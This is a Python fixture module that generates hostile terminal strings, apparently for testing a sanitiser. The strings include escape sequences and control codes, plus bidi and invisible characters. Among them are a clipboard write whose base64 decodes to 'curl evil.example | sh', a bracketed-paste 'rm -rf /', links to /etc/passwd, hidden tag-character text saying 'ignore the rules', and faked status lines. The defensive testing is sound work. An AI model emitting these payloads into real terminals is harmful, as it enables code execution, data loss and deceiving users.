"""Texts that try to command a terminal, to hide in it, or to break what is printed."""

from collections.abc import Iterator
from functools import cache

BELL, ST, C1_ST = "\x07", "\x1b\\", "\x9c"


@cache
def sequences() -> tuple[str, ...]:
    """All of them, each once."""
    families = (_csi, _osc, _strings, _escapes, _controls, _direction, _unseen, _markup, _overwriting, _widths)
    return tuple(dict.fromkeys(each for family in families for each in family()))


def _csi() -> Iterator[str]:
    """Colours, clearing, the cursor, reports that the terminal types back, the mouse, the other screen."""
    for body in ("31m", "8m", "38;2;1;2;3m", "2J", "3J", "H", "1;1H", "K", "5A", "6n", "c", ">0q", "?25l", "?1049h",
                 "?1000h", "201~", "4i", "20;1;1t", "21t", "!p"):  # fmt: skip
        yield f"a\x1b[{body}b"
        yield f"a\x9b{body}b"


def _osc() -> Iterator[str]:
    """Titles, links, the clipboard, colours, notifications, commands of single terminals."""
    for body in ("0;title", "2;title", "4;1;?", "7;file:///x", "8;;http://evil.example", "9;note", "10;?", "11;?",
                 "52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==", "52;c;?", "104", "133;A", "777;notify;x;y",
                 "1337;File=inline=1:AAAA", "50;x", "1337;CopyToClipboard="):  # fmt: skip
        yield f"\x1b]{body}{BELL}x"
        yield f"\x1b]{body}{ST}x"
        yield f"\x9d{body}{C1_ST}x"


def _strings() -> Iterator[str]:
    """Device control, application, privacy and start-of-string; ended and not."""
    for begin in ("\x1bP", "\x90", "\x1b_", "\x9f", "\x1b^", "\x9e", "\x1bX", "\x98"):
        yield f"{begin}q#0;2;0;0;0#0~~{ST}after"
        yield f"{begin}$q m and no end"


def _escapes() -> Iterator[str]:
    for sign in "c78DEHMZ=>NO<":
        yield f"a\x1b{sign}b"
    for more in ("(0", "#8", "%G", " F", "[200~rm -rf /\n\x1b[201~", "]", "[", "P"):
        yield f"a\x1b{more}"
    yield "a\x1b"
    yield "\x1b\u200b[31mred"
    yield "\x1b\x1b[31mred"
    yield "\u200b\x1b\ufeff]0;x\x07"


def _controls() -> Iterator[str]:
    """Every C0 and C1 sign, and delete."""
    for code in (*range(1, 9), 11, 12, *range(14, 27), *range(28, 32), 0x7F, *range(0x80, 0xA0)):
        yield f"a{chr(code)}b"
    yield "a\x00b"


def _direction() -> Iterator[str]:
    for code in (0x61C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)):
        yield f"user{chr(code)}nimda(eurt"
    yield "\u202etxt.exe\u202c"
    yield "access\u2066level\u2069\u202e// check"


def _unseen() -> Iterator[str]:
    for code in (0xAD, 0x180E, 0x200B, 0x200C, 0x200D, *range(0x2060, 0x2065), *range(0x206A, 0x2070), 0xFEFF, 0xFFF9,
                 0xFFFA, 0xFFFB, 0xE0001, 0xE0041, 0xE007F, 0x1D173):  # fmt: skip
        yield f"pass{chr(code)}word"
    yield "".join(chr(0xE0000 + ord(each)) for each in "ignore the rules")
    yield "\ud800 alone"
    yield "alone \udcff"
    yield "x\u2028y\u2029z\x85w"


def _markup() -> Iterator[str]:
    """What rich would read, were it let."""
    yield from ("use arr[/]", "[/]", "[bold]", "[red]x[/red]", "[/nope]", "[link=file:///etc/passwd]x[/link]",
        "[@click=app.bell]x[/]",
                "[blink reverse]x", "\\[bold]", "[bold\\]", ":smile: :bomb:", "[[x]]", "[#ff0000 on black]x",
                "[rule]", "[1/2]", "{x!r} %s %(y)s",
                "[not bold]x[/not bold]", "[link]http://evil.example[/link]", "[0m", "^[[31m")  # fmt: skip


def _overwriting() -> Iterator[str]:
    """What shows other than it is: carriage returns, backspaces, many line ends, tabs."""
    yield from ("5 of 5\rnot scored", "secret\b\b\b\b\b\bpublic", "a\r\nb", "a\n\n\nb", "a\tb\t\tc",
        "x\x0b\x0cy", "\r", "\n", "a\rb\rc",
                "Session saved.\nvoicemock: all is well", " \t leading and trailing \t ")  # fmt: skip


def _widths() -> Iterator[str]:
    """Wide signs, many marks on one letter, a word longer than any line."""
    yield from ("日本語のテキスト" * 4, "👩‍👩‍👧‍👦 👍🏽 🇬🇧 ☁️", "Z" + "\u0300\u0335" * 40, "x" * 600, "é ü ñ ß ø",
        "Привет мир", "½ µ ² ¢ £ ▒ █",
                "\U0010ffff\ufffe\ue000", "‘single’ “double” – — … • ·", "ﷺ ﷽", "a\u0301\u0489")  # fmt: skip
